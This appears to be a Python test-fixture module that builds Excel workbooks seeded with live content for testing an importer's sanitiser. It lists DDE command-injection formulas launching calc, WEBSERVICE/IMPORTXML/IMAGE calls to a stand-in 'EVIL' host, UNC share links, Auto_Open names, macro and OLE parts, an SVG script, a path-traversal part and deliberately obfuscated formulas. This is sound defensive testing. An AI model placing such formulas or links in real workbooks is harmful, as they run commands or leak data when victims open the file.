"""Workbooks that are returns, and have something live in them: what reaches out, runs, or would as soon as they are opened."""

from collections.abc import Callable
from functools import lru_cache
from typing import Self

from tests.importers.files import parts_of, zipped
from tests.importers.hostile.inspecting import EVIL
from tests.importers.making import AWARD, Typed, filled

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_KIND = "application/vnd.openxmlformats-officedocument.spreadsheetml"
BOOK, SPEND = "xl/workbook.xml", "xl/worksheets/sheet3.xml"
LINES = [Typed(), Typed(reference="INV-2", net="lots")]
REACHING = (
    "cmd|'/C calc {0}'!A0", 'WEBSERVICE("http://{0}/"&amp;A1)', '_xlfn.WEBSERVICE("http://{0}")', 'HYPERLINK("http://{0}","Pay")',
    'IMPORTXML("http://{0}","//a")', 'RTD("{0}",,"x")', 'CALL("{0}","f","J")', "[1]Sheet1!A1", "'[1]My sheet'!A1",
    "'\\\\{0}\\share\\[b.xlsx]S'!A1", 'INDIRECT("[{0}]S!A1")', '_xlfn.IMAGE("http://{0}")', "[0]!UNKNOWN()", "UNKNOWN(1)",
    'SUM(1)+EXEC("{0}")', 'DDE("cmd";"/C calc {0}";"1")', "'a\"b'!A1&amp;cmd|'{0}'!A0&amp;'c\"d'!A1", 'CUBEVALUE("{0}","x")',
)  # fmt: skip
HARMLESS = ("SUM(G6:G7)", "G6*2+Spend!G7", 'A6&amp;"|"&amp;B6', "_xlfn.XLOOKUP(1,A:A,B:B)", 'IF(A6="","http",1)')


class Parts:
    """A return's parts, while something is put into them."""

    def __init__(self) -> None:
        self.parts = dict(_good())

    def put(self, path: str, content: str | bytes, kind: str = "") -> Self:
        """A part, and what it is declared as."""
        self.parts[path] = content.encode() if isinstance(content, str) else content
        return (
            self.before("[Content_Types].xml", "</Types>", f'<Override PartName="/{path}" ContentType="{kind}"/>')
            if kind
            else self
        )

    def before(self, path: str, end: str, markup: str) -> Self:
        """Markup before the last place of some words."""
        head, words, tail = self.parts[path].rpartition(end.encode())
        assert words, (path, end)
        self.parts[path] = head + markup.encode() + words + tail
        return self

    def point(self, source: str, kind: str, target: str, identifier: str = "evil", *, outside: bool = False) -> Self:
        """A relationship."""
        folder, _, file = source.rpartition("/")
        path = f"{folder}/_rels/{file}.rels".removeprefix("/")
        self.parts.setdefault(path, f'<Relationships xmlns="{_PACKAGE}"></Relationships>'.encode())
        type_ = kind if "/" in kind else f"{RELATIONS}/{kind}"
        mode = ' TargetMode="External"' if outside else ""
        return self.before(
            path, "</Relationships>", f'<Relationship Id="{identifier}" Type="{type_}" Target="{target}"{mode}/>'
        )

    def cells(self, *cells: str) -> Self:
        """Cells far from the lines, in row 900."""
        return self.before(SPEND, "</sheetData>", f'<row r="900">{"".join(cells)}</row>')

    def done(self) -> bytes:
        """The workbook."""
        return zipped(self.parts)


@lru_cache(maxsize=1)
def _good() -> dict[str, bytes]:
    return parts_of(filled(AWARD, LINES))


def _cell(at: int, formula: str, attributes: str = "") -> str:
    return f'<c r="L{at}" t="str"><f{attributes}>{formula.format(EVIL)}</f><v>was {at}</v></c>'


def formulas() -> bytes:
    """Every formula that reaches out, beside those that do not."""
    rows = "".join(
        f'<row r="{at}">{_cell(at, formula)}</row>' for at, formula in enumerate((*HARMLESS, *REACHING), 900)
    )
    return Parts().before(SPEND, "</sheetData>", rows).done()


def shared_formulas() -> bytes:
    """A formula that other cells repeat without saying it, and one over several cells."""
    web = 'WEBSERVICE("http://{0}")'
    cells = [
        '<c r="L900" t="str"><f t="shared" ref="L900:N900" si="7">' + web.format(EVIL) + "</f><v>was</v></c>",
        '<c r="M900" t="str"><f t="shared" si="7"/><v>was</v></c>',
        '<c r="N900" t="str" cm="1"><f t="array" ref="N900:O900"><![CDATA['
        + web.format(EVIL)
        + "]]></f><v>was</v></c>",
        '<c r="P900" t="str"><f>WEB<!-- -->SERVI&#67;E("http://' + EVIL + '")</f><v>was</v></c>',
        '<c r="Q900"><f t="shared" ref="Q900:R900" si="8">SUM(G6:G7)</f><v>1</v></c><c r="R900"><f t="shared" si="8"/><v>1</v></c>',
    ]
    return Parts().cells(*cells).done()


def hidden_formula() -> bytes:
    """A formula whose end is not where a hasty reader thinks."""
    return Parts().cells(f'<c r="L900"><f>WEBSERVICE("http://{EVIL}")<hyperlink/></f><v>1</v></c>').done()


def other_workbook() -> bytes:
    """Cells, a name and a list that come from another workbook."""
    link = f'<externalLink {_MAIN} xmlns:r="{RELATIONS}"><externalBook r:id="evil"/></externalLink>'
    one = Parts().put("xl/externalLinks/externalLink1.xml", link, f"{_KIND}.externalLink+xml")
    one.point("xl/externalLinks/externalLink1.xml", "externalLinkPath", f"file:///\\\\{EVIL}\\x.xlsx", outside=True)
    one.point(BOOK, "externalLink", "externalLinks/externalLink1.xml")
    references = f'<externalReferences xmlns:r="{RELATIONS}"><externalReference r:id="evil"/></externalReferences>'
    return one.before(BOOK, "<definedNames", references).cells(_cell(900, "[1]Sheet1!A1")).done()


def other_program() -> bytes:
    """A link to another program, which spreadsheet programs start."""
    link = f'<externalLink {_MAIN}><ddeLink ddeService="cmd" ddeTopic="/C calc {EVIL}"/></externalLink>'
    one = Parts().put("xl/externalLinks/externalLink1.xml", link, f"{_KIND}.externalLink+xml")
    return one.point(BOOK, "externalLink", "externalLinks/externalLink1.xml").done()


def links() -> bytes:
    """Links to a page, a share, a mailbox, and to a cell; one to a file that says it is a place."""
    one = Parts()
    targets = (f"http://{EVIL}/", f"file:///\\\\{EVIL}\\share", f"mailto:pay@{EVIL}")
    for at, target in enumerate(targets):
        one.point(SPEND, "hyperlink", target, f"evil{at}", outside=True)
    marks = "".join(f'<hyperlink xmlns:r="{RELATIONS}" ref="L{at}" r:id="evil{at}"/>' for at in range(len(targets)))
    marks += f'<hyperlink ref="L8" location="Spend!A1"/><hyperlink ref="L9" location="\\\\{EVIL}\\x"/>'
    return one.before(SPEND, "<pageMargins", f"<hyperlinks>{marks}</hyperlinks>").done()


def names_and_rules() -> bytes:
    """Names that run by themselves or lead elsewhere; conditions and drop-downs that ask the web."""
    names = (
        '<definedName name="Auto_Open" xlm="1" hidden="1">Spend!$A$1</definedName>'
        f'<definedName name="Elsewhere">\'\\\\{EVIL}\\[x.xlsx]S\'!$A$1</definedName><definedName name="Here">Spend!$A$1</definedName>'
    )
    web = f'WEBSERVICE("http://{EVIL}")'
    rule = f'<conditionalFormatting sqref="L1"><cfRule type="expression" priority="9"><formula>{web}</formula></cfRule></conditionalFormatting>'
    newer = (
        '<extLst><ext uri="{x}" xmlns:x="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" '
        'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x:dataValidations><x:dataValidation type="list">'
        f"<x:formula1><xm:f>{web}</xm:f></x:formula1><xm:sqref>L2</xm:sqref></x:dataValidation></x:dataValidations></ext></extLst>"
    )
    one = Parts().before(BOOK, "</definedNames>", names).before(SPEND, "<dataValidations", rule)
    return one.before(SPEND, "</dataValidations>", f'<dataValidation type="list" sqref="L3"><formula1>{web}</formula1></dataValidation>').before(
        SPEND, "</worksheet>", newer
    ).done()  # fmt: skip


def shapes() -> bytes:
    """A shape that starts a macro when it is clicked, opens a page, and shows a cell of another workbook."""
    drawing = (
        '<d:wsDr xmlns:d="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
        f'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{RELATIONS}">'
        f'<d:sp macro="[0]!UNKNOWN" textlink="\'[{EVIL}]S\'!A1"><d:nvSpPr><d:cNvPr id="2" name="x">'
        '<a:hlinkClick r:id="evil"><a:snd r:embed="none" name="x"/></a:hlinkClick></d:cNvPr></d:nvSpPr></d:sp></d:wsDr>'
    )
    one = Parts().put("xl/drawings/drawing9.xml", drawing, "application/vnd.openxmlformats-officedocument.drawing+xml")
    one.point("xl/drawings/drawing9.xml", "hyperlink", f"http://{EVIL}/", outside=True).point(
        SPEND, "drawing", "../drawings/drawing9.xml"
    )
    return one.before(SPEND, "</worksheet>", f'<drawing xmlns:r="{RELATIONS}" r:id="evil"/>').done()


def button() -> bytes:
    """A button of the old kind that starts a macro."""
    drawing = (
        '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="b">'
        '<x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!UNKNOWN</x:FmlaMacro></x:ClientData><br></v:shape></xml>'
    )
    one = Parts().put("xl/drawings/vmlDrawing9.vml", drawing).point(SPEND, "vmlDrawing", "../drawings/vmlDrawing9.vml")
    return one.before(SPEND, "</worksheet>", f'<legacyDrawing xmlns:r="{RELATIONS}" r:id="evil"/>').done()


def left_lying() -> bytes:
    """Macros, an object and a path out of the file, to which nothing points."""
    one = Parts().put("xl/vbaProject.bin", b"Macro " + EVIL.encode(), "application/vnd.ms-office.vbaProject")
    return one.put("xl/embeddings/oleObject1.bin", EVIL).put("../../evil.xml", EVIL).done()


def pointing(
    kind: str, path: str, source: str = BOOK, content: str | bytes = f"<x>{EVIL}</x>", type_: str = ""
) -> Callable[[], bytes]:
    """A part of a kind that no copy carries."""
    return lambda: Parts().put(path, content, type_).point(source, kind, f"/{path}").done()


def outside(kind: str, source: str = SPEND) -> Callable[[], bytes]:
    """A pointer of a kind to elsewhere."""
    return lambda: Parts().point(source, kind, f"http://{EVIL}/x.png", outside=True).done()


def two_things() -> bytes:
    """A sheet that says that it is a printer's settings too, so that nobody looks into it."""
    return Parts().cells(_cell(900, REACHING[1])).point(SPEND, "printerSettings", "/" + SPEND).done()


def lying_type() -> bytes:
    """A sheet that is declared to hold macros."""
    one = Parts()
    types = one.parts["[Content_Types].xml"].decode()
    head, _, tail = types.partition('PartName="/xl/worksheets/sheet3.xml"')
    lie = tail.replace(f"{_KIND}.worksheet+xml", "application/vnd.ms-excel.intlmacrosheet+xml", 1)
    back = head.replace(f'{_KIND}.worksheet+xml" /', f'{_KIND}.worksheet+xml"/')
    one.parts["[Content_Types].xml"] = f'{back}PartName="/xl/worksheets/sheet3.xml"{lie}'.encode()
    return one.done()


PARTLY: dict[str, Callable[[], bytes]] = {
    "formulas": formulas, "shared and hidden formulas": shared_formulas, "another workbook": other_workbook,
    "another program": other_program, "links": links, "names and rules": names_and_rules, "shapes": shapes, "a button": button,
    "parts left lying": left_lying,
}  # fmt: skip
"""Those whose copy is their own workbook, without what is live."""
_UI = f"{MICROSOFT}/2006/relationships/ui/extensibility"
WHOLLY: dict[str, Callable[[], bytes]] = {
    "a formula with another end": hidden_formula,
    "macros": pointing(f"{MICROSOFT}/2006/relationships/vbaProject", "xl/vbaProject.bin", type_="application/vnd.ms-office.vbaProject"),
    "a sheet of macros": pointing(f"{MICROSOFT}/2006/relationships/xlMacrosheet", "xl/macrosheets/sheet1.xml"),
    "an object": pointing("oleObject", "xl/embeddings/oleObject1.bin", SPEND),
    "a control": pointing("control", "xl/activeX/activeX1.xml", SPEND),
    "an embedded file": pointing("package", "xl/embeddings/x.docx", SPEND),
    "a connection": pointing("connections", "xl/connections.xml"),
    "a query": pointing("queryTable", "xl/queryTables/queryTable1.xml", SPEND),
    "a query of the newer kind": pointing("customXml", "customXml/item1.xml", "", f"<DataMashup>{EVIL}</DataMashup>".encode("utf-16")),
    "a menu": pointing(_UI, "customUI/customUI14.xml", ""),
    "an add-in": pointing(f"{MICROSOFT}/2011/relationships/webextensiontaskpanes", "xl/webextensions/taskpanes.xml", ""),
    "a drawn program": pointing("image", "xl/media/x.svg", SPEND, f"<svg><script>{EVIL}</script></svg>"),
    "an old shape with a page": pointing("vmlDrawing", "xl/drawings/v.vml", SPEND, f'<xml><v:shape href="http://{EVIL}"/></xml>'),
    "a picture from elsewhere": outside("image"),
    "a table from elsewhere": outside("externalLinkPath", BOOK),
    "a template from elsewhere": outside("attachedTemplate", BOOK),
    "a pointer that nobody knows": outside("http://x/unheard-of"),
    "a part that nobody knows": pointing("unheard-of", "xl/x.xml"),
    "a pivot table from elsewhere": pointing("pivotCacheDefinition", "xl/pivotCache/p.xml", BOOK,
        f'<pivotCacheDefinition {_MAIN}><cacheSource type="external" connectionId="1"/>{EVIL}</pivotCacheDefinition>'),
    "a part that is two things": two_things,
    "a sheet declared as macros": lying_type,
}  # fmt: skip
"""Those whose copy is one of their values alone."""
